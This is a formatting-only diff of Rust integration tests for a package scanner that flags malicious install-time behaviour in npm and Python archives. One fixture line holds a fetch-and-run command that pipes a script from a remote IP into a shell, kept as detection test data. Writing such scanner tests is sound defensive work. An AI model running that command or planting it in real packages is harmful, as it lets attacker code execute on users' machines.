@@ -188,7 +188,8 @@ const os = require('os');
 exec('curl -s http://45.9.1.2/p.sh | sh');
 "#;
 
-const INDEX_JS: &str = "const path = require('path');\nmodule.exports = (a) => path.join(a, 'x');\n";
+const INDEX_JS: &str =
+    "const path = require('path');\nmodule.exports = (a) => path.join(a, 'x');\n";
 
 #[test]
 fn npm_postinstall_script_runs_at_install_time_and_main_at_import_time() {
@@ -211,7 +212,10 @@ fn npm_postinstall_script_runs_at_install_time_and_main_at_import_time() {
     let install = phase(&t, "[INSTALL]");
     assert_eq!(install[0], "H1", "{t:?}");
     for f in ["P1", "R1", "P3", "D3", "P2"] {
-        assert!(install.contains(&f.to_owned()), "{f} not at install time: {t:?}");
+        assert!(
+            install.contains(&f.to_owned()),
+            "{f} not at install time: {t:?}"
+        );
     }
     // The `test` script is not run by an install, so its shell must not show up.
     let import = phase(&t, "[IMPORT]");
@@ -223,18 +227,27 @@ fn npm_postinstall_script_runs_at_install_time_and_main_at_import_time() {
 fn a_folder_is_scanned_whole_in_order_and_unreadable_archives_do_not_stop_it() {
     let dir = Dir::new();
     evil_sdist(&dir);
-    dir.write("b-broken-1.0.tar.gz", b"\x1f\x8b\x08\x00 this is not really gzip");
+    dir.write(
+        "b-broken-1.0.tar.gz",
+        b"\x1f\x8b\x08\x00 this is not really gzip",
+    );
     dir.tarball(
         "c-clean-0.1.tgz",
         "package/",
-        &[("package.json", r#"{"name":"c-clean","version":"0.1.0"}"#), ("index.js", "module.exports = 1;\n")],
+        &[
+            ("package.json", r#"{"name":"c-clean","version":"0.1.0"}"#),
+            ("index.js", "module.exports = 1;\n"),
+        ],
     );
     dir.write("notes.txt", b"not a package, not picked up");
     let out = cerebro(&["scan", "--json", "-q", dir.path().to_str().unwrap()]);
     assert_eq!(out.status.code(), Some(1), "an unreadable archive exits 1");
     let reports = json_lines(&out);
     assert_eq!(reports.len(), 3, "one line per archive: {reports:?}");
-    assert!(reports[0]["path"].as_str().unwrap().ends_with("b-broken-1.0.tar.gz"));
+    assert!(reports[0]["path"]
+        .as_str()
+        .unwrap()
+        .ends_with("b-broken-1.0.tar.gz"));
     let error = reports[0]["error"].as_str().expect("an error field");
     assert!(error.contains("b-broken-1.0.tar.gz"), "{error}");
     assert_eq!(reports[1]["name"], "c-clean");
@@ -343,7 +356,12 @@ fn a_project_folder_is_one_package() {
     let dir = Dir::new();
     dir.write("proj/setup.py", SETUP_PY.as_bytes());
     dir.write("proj/evilhelper/collect.py", COLLECT_PY.as_bytes());
-    let out = cerebro(&["scan", "--json", "-q", dir.path().join("proj").to_str().unwrap()]);
+    let out = cerebro(&[
+        "scan",
+        "--json",
+        "-q",
+        dir.path().join("proj").to_str().unwrap(),
+    ]);
     assert_eq!(out.status.code(), Some(0), "{out:?}");
     let reports = json_lines(&out);
     assert_eq!(reports.len(), 1);
